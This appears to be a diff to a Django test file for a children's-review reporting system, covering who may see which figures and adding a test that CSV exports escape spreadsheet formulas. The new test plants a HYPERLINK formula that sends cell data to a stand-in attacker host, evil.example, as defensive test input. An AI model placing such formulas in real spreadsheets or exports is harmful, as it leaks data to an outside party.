@@ -1,7 +1,9 @@
 """Who may see which figures: managers the council, an IRO their own caseload, nobody else anything."""
 
+import csv
+import io
 import json
-from datetime import date
+from datetime import date, timedelta
 
 import pytest
 from django.urls import reverse
@@ -102,3 +104,18 @@ def test_an_iro_counts_nothing_of_another_iros_children_in_any_report(other_chil
         assert all(row.count == 0 and row.base == 0 for row in table.rows), name
         # ...while the same figures for their own IRO are not empty: the test would see a leak.
         assert any(row.count or row.base for row in report_for_user(other_iro, name, everything).rows), name
+
+
+def test_a_formula_typed_into_a_late_reason_comes_out_of_the_csv_as_text(child, manager):
+    review = Review.objects.get(child=child)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    Review.objects.filter(pk=review.pk).update(
+        held_on=review.due_by + timedelta(days=3), participation_code="PN1", late_reason=formula
+    )
+    rows = client_for(manager).get(
+        reverse("reporting:report_csv", args=["timeliness"]) + "?from=2025-04-01&to=2026-03-31"
+    )
+    cells = [cell for row in csv.reader(io.StringIO(rows.content.decode())) for cell in row]
+    assert "'" + formula in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+    assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in cells)
